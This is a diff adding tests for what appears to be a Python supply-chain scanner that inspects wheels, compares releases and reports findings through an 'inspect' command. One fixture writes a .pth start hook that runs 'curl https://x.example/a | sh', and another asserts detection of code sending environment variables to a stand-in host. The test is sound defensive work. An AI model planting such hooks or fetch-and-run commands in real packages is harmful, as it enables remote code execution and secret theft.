@@ -1,0 +1,92 @@
+"""What is told of an archive: the account of what runs when, a release beside the one before, the verb `inspect`."""
+
+from __future__ import annotations
+
+import json
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from mlsupply.cli import main
+from mlsupply.evidence.account import account
+from mlsupply.evidence.compare import compared
+from mlsupply.evidence.package import look_inside
+from mlsupply.evidence.pool import Pool
+from tests.made_wheels import BAD, CLEAN, PAYLOAD, put, wheel
+
+
+@pytest.fixture(scope="module")
+def pool() -> Iterator[Pool]:
+    with Pool(1) as one:
+        yield one
+
+
+def test_the_account_says_what_runs_when_also_where_nothing_is_wrong(tmp_path: Path, pool: Pool) -> None:
+    clean = "\n".join(account(look_inside(put(tmp_path, "demo-1.0-py3-none-any.whl", wheel(CLEAN)), pool)))
+    assert "when it is imported: nothing that asks the network" in clean
+    bad = "\n".join(account(look_inside(put(tmp_path, "demo-1.1-py3-none-any.whl", wheel(BAD)), pool)))
+    assert "sends all environment variables to https://c.example/e (demo/__init__.py:2)" in bad
+
+
+def test_a_release_is_held_against_the_one_before(tmp_path: Path, pool: Pool) -> None:
+    before = look_inside(put(tmp_path, "demo-1.0-py3-none-any.whl", wheel(CLEAN)), pool, subject="1.0")
+    now = look_inside(
+        put(
+            tmp_path,
+            "demo-1.1-py3-none-any.whl",
+            wheel({**BAD, "demo.pth": b"import demo\n", "demo/r.js": b"x" * 2_000_000}),
+        ),
+        pool,
+    )
+    changes = {change.kind: change for change in compared(now, before)}
+    assert set(changes) == {"new-start-hook", "new-behaviour", "new-language", "grew"}
+    assert changes["new-start-hook"].member == "demo.pth"
+    assert not list(compared(now, now))
+
+
+def test_inspect_prints_the_account_and_the_findings(tmp_path: Path) -> None:
+    path = put(tmp_path, "demo-1.0-py3-none-any.whl", wheel(BAD))
+    done = CliRunner().invoke(main, ["inspect", "--offline", str(path)], env={"MLSUPPLY_CACHE_DIR": str(tmp_path / "c")})
+    assert done.exit_code == 1, done.output
+    assert "when it is imported:" in done.output
+    assert "MLS-C010" in done.output
+    clean = put(tmp_path, "demo-1.1-py3-none-any.whl", wheel(CLEAN))
+    done = CliRunner().invoke(main, ["inspect", "--offline", str(clean)], env={"MLSUPPLY_CACHE_DIR": str(tmp_path / "c")})
+    assert done.exit_code == 0, done.output
+
+
+def test_inspect_takes_folders_and_writes_json(tmp_path: Path) -> None:
+    tree = tmp_path / "tree"
+    (tree / "demo").mkdir(parents=True)
+    (tree / "pyproject.toml").write_text('[project]\nname = "Demo.Kit"\nversion = "2.0"\n')
+    (tree / "demo" / "__init__.py").write_bytes(PAYLOAD)
+    done = CliRunner().invoke(main, ["inspect", "--offline", "-o", "json", str(tree)])
+    document = json.loads(done.stdout)
+    assert document["packages"][0]["purl"] == "pkg:pypi/demo-kit@2.0"
+    (finding,) = document["findings"]
+    assert (finding["id"], finding["severity"], finding["moment"]) == ("MLS-C010", "critical", "import")
+    assert finding["places"][0]["member"] == "demo/__init__.py"
+    assert any(quote["label"] == "chain" for quote in finding["quotes"])
+
+
+def test_inspect_of_what_is_not_there_names_the_next_step(tmp_path: Path) -> None:
+    done = CliRunner().invoke(main, ["inspect", str(tmp_path / "gone.whl")])
+    assert done.exit_code == 2
+    assert "NAME==VERSION" in done.output
+    done = CliRunner().invoke(main, ["inspect", "--offline", "demo==1.0"])
+    assert done.exit_code == 3
+
+
+def test_a_folder_of_wheels_is_inspected_wheel_by_wheel(tmp_path: Path) -> None:
+    folder = tmp_path / "wheels" / "deeper"
+    folder.mkdir(parents=True)
+    with zipfile.ZipFile(folder / "evil-1.0-py3-none-any.whl", "w") as wheel:
+        wheel.writestr("evil.pth", "import os;os.system('curl https://x.example/a | sh')\n")
+        wheel.writestr("evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
+        wheel.writestr("evil-1.0.dist-info/RECORD", "")
+    done = CliRunner().invoke(main, ["inspect", "--offline", str(tmp_path / "wheels")])
+    assert done.exit_code == 1, done.output
+    assert "evil.pth" in done.output
